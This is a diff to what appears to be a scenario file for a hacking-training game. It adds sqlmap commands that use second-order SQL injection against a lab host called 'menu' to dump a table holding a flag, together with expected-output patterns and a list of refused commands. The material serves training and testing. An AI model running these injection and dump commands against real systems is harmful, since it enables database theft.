@@ -152,9 +152,20 @@ export const dessert: Scenario = {
       type: 'sqlmap -u http://menu/join --data=user=x --second-url=http://menu/favourites --batch --tables',
       wants: /Parameter: user \(POST\)[\s\S]*2 columns[\s\S]*\| dessert +\|/,
     },
+    // and what it dumps is what was read by hand
+    {
+      type: 'sqlmap -u http://menu/join --data=user=x --second-url=http://menu/favourites --batch --dump -T dessert',
+      wants: /Table: dessert\n\[1 entry\][\s\S]*\| id \| secret +\|[\s\S]*\| 1 +\| (?<dumped>flag\{[^}]+\}) +\|/,
+    },
+    { type: "[ '{dumped}' = '{flag}' ] && echo both the same", wants: /^both the same$/m },
     { type: 'gobuster dir -q -u http://menu -w /usr/share/wordlists/dirs.txt', wants: /\/favourites +\(Status: 401\)/ },
   ],
-  refused: ['curl -s http://menu/favourites', 'curl -s http://menu/dessert'],
+  refused: [
+    'curl -s http://menu/favourites',
+    'curl -s http://menu/dessert',
+    // who does not know where a name is read again gets nothing out of the tool either
+    'sqlmap -u http://menu/join --data=user=x --batch --dump',
+  ],
 }
 
 export const frontDoor: Scenario = {
